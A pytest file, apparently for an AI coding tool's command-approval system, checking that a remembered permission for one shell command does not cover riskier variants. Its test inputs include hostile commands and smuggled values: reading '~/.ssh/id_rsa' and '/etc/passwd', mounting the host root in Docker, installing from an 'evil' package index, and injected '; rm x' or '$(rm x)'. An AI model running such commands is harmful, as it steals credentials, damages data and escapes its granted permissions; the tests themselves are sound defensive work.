"""What "don't ask again" remembers of a command."""

import itertools

import pytest
from command_table import judged


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("ls -la src", "ls -a -l"),
        ("ls", "ls"),
        ("cat a.ts", "cat"),
        ("cat /project/a.ts src/b.ts", "cat"),
        ("grep -rn x src", "grep -n -r"),
        ("grep -A 3 x a.ts", "grep -A"),
        ("git add a.ts b.ts", "git add"),
        ("git commit -qm 'one thing'", "git commit -m -q"),
        ("cargo test name", "cargo test"),
        ("go test ./...", "go test"),
    ],
)
def test_of_a_listed_use_the_sort_is_remembered(command: str, pattern: str) -> None:
    assert judged(command).pattern == pattern


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/hostname",
        "cat a.ts /etc/hostname",
        "cat ../other/a.ts",
        "cat src/../../a.ts",
        "grep --include=../x y a",
        "cat '~/.ssh/id_rsa'",
        "git add ../other/a.ts",
        "go test /other",
    ],
)
def test_nothing_is_remembered_of_a_listed_use_outside(command: str) -> None:
    assert judged(command).pattern is None


@pytest.mark.parametrize(
    "command",
    [
        "npm install left-pad",
        "npm run build -- --x",
        "node scripts/a.js 1 2",
        "node -e '1'",
        "mv a b",
        "npm install; ls",
        "npm install > out",
        "FOO=1 npm install",
        "make",
        "make build CC=gcc",
        "mv a ../b",
        "docker run box -v /:/host",
        "docker exec box ls",
        "git push origin main",
        "git push --receive-pack=x origin",
        "git rebase -x 'make' main",
        "git -c a.b=c pull",
        "uv run python a.py 1",
        "npx prettier --write a.ts",
        "npm test && ls",
        "npm testx",
        "npm test",
        "'npm' te\"st\" src",
        "grep -R x .",
        "grep -rR x .",
        "grep --dereference-recursive x .",
        "grep -f/etc/passwd x",
        "grep -r x *",
        "cat a*",
        "cat {a,b}",
        "ls -RL .",
        "tail --pid=1 a",
        "file -C -m a",
        "wc --files0-from=a",
        "git add -f a",
        "git add ':(top)x'",
        "git add :/x",
        "git add a ':!b'",
        "git add --pathspec-from-file=a",
        "git commit",
        "git commit -m x a.ts",
        "git commit -m x --no-verify",
        "git commit -a -m x",
        "git commit -m",
        "cargo test --config a.b=c",
        "cargo run x",
        "go test -exec ./x",
        "go run x.go",
    ],
)
def test_everything_else_is_remembered_as_a_whole(command: str) -> None:
    assert judged(command).pattern == command


@pytest.mark.parametrize(
    ("allowed", "other"),
    [
        ("git bisect start", "git bisect run sh evil.sh"),
        ("git push origin main", "git push git@other:x main"),
        ("git config user.name", "git config core.sshCommand ./evil"),
        ("git stash list", "git stash clear"),
        ("git submodule status", "git submodule foreach ./evil"),
        ("git checkout main", "git checkout ."),
        ("git worktree list", "git worktree add ../x"),
        ("grep -r x a.txt", "grep -R x ."),
        ("npm install left-pad", "npm install ./evil"),
        ("npm run build", "npm run build -- --config evil.js"),
        ("pip install x", "pip install --index-url http://evil x"),
        ("docker run a", "docker run -v /:/host a"),
        ("node a.js", "node a.js --delete"),
        ("make build", "make build SHELL=./evil"),
        ("uv add x", "uv add --script x"),
    ],
)
def test_a_permission_does_not_cover_another_deed(allowed: str, other: str) -> None:
    assert judged(allowed).pattern != judged(other).pattern


SUBCOMMANDS = """
    git: add x|am x|apply x|archive HEAD|bisect start|bisect run x|bisect reset|blame x|branch x
    git: branch -D x|bundle create x
    git: checkout x|checkout .|cherry-pick x|clone x|commit|commit --amend|commit -m x|config x
    git: config x y|config -e|fetch
    git: fetch x|filter-branch|gc|init|merge x|merge --abort|mv a b|notes list|notes remove|pull
    git: pull x|push|push x|push x y
    git: push -d x y|rebase x|rebase --abort|reflog|reflog expire|reflog delete x|remote|remote -v
    git: remote add x y|remote remove x
    git: remote set-url x y|remote update|remote prune x|replace a b|reset|reset x|restore x
    git: revert x|rm x|stash|stash list
    git: stash show|stash pop|stash drop|stash clear|stash apply|submodule status|submodule update
    git: submodule foreach x
    git: submodule add x|submodule deinit x|switch x|tag|tag x|tag -d x|update-index x
    git: update-ref x y|worktree list
    git: worktree add x|worktree remove x|worktree prune|sparse-checkout list
    git: sparse-checkout set x|lfs ls-files|lfs prune
    npm: install|install x|uninstall x|update|run x|run y|exec x|ci|audit|audit fix|config list
    npm: config set x|cache verify
    npm: cache clean|link|link x|pack|version x|start|stop|restart|init|dedupe|prune|rebuild|ls
    npm: view x|token list|token revoke x
    docker: ps|run x|exec x y|rm x|rmi x|build .|pull x|push x|image ls|image rm x|image prune
    docker: volume ls|volume rm x
    docker: volume prune|network ls|network rm x|system df|system prune|compose up|compose down
    docker: compose exec x y|cp a b
    kubectl: get x|delete x|apply -f x|exec x|config view|config use-context x|rollout status x
    kubectl: rollout undo x|scale x
    cargo: build|test|run|install x|publish|clean|add x|remove x|fmt|fix|update|search x|yank x
    go: build|test|run x|install x|get x|mod tidy|mod download|mod edit x|generate|env|env -w x
    go: clean -cache|work use x
    make: build|clean|install
    gh: pr list|pr merge x|repo list|repo delete x|auth status|auth logout|issue list
    gh: issue close x|release list
    uv: sync|add x|remove x|run x|pip list|pip install x|pip uninstall x|cache dir|cache clean
    terraform: plan|apply|destroy|state list|state rm x|workspace list|workspace delete x
    aws: s3 ls|s3 rm x|ec2 x|iam x
"""


def test_no_two_of_150_subcommands_share_a_permission() -> None:
    commands = [
        f"{name.strip()} {use}"
        for name, _, uses in (line.partition(": ") for line in SUBCOMMANDS.strip().splitlines())
        for use in uses.split("|")
    ]
    assert len(commands) >= 150
    allowed = {command: judged(command).pattern for command in commands}
    shared = [
        pair
        for pair in itertools.combinations(commands, 2)
        if allowed[pair[0]] is not None and allowed[pair[0]] == allowed[pair[1]]
    ]
    assert shared == []


@pytest.mark.parametrize(
    "other",
    [
        "npm test && rm x",
        "npm test; rm x",
        "npm test | sh",
        "npm test > package.json",
        "npm test $(rm x)",
        "npm test\nrm x",
        "npm testx",
        "npm tests",
        "npm 'test x'",
        "npmx test",
        "A=1 npm test",
        "env npm test",
        "npm --prefix .. test",
        "npm test --script-shell=./x",
        "cd .. && npm test",
    ],
)
def test_no_other_command_is_of_the_sort_of_npm_test(other: str) -> None:
    assert judged("npm test").pattern == "npm test"
    assert judged(other).pattern != "npm test"
